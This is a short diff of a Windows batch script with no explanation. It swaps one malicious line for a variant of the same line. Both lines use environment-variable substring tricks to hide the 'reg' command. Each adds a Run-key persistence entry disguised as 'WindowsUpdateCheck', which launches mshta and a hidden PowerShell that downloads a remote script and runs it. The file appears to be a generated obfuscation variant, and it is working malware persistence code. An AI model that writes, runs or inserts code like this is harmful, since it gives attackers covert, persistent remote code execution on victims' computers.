@@ -1,2 +1,2 @@
-REM run 3759 v3
-r%public:~-10,1%%PROGRAMDATA:~-8,1% add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WindowsUpdateCheck /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://203.0.113.200/inv.ps1|iex\"\", 0:close\")" /f
+REM run 3459 v3
+re%programdata:~6,1% add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WindowsUpdateCheck /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://192.0.2.150/update.ps1|iex\"\", 0:close\")" /f
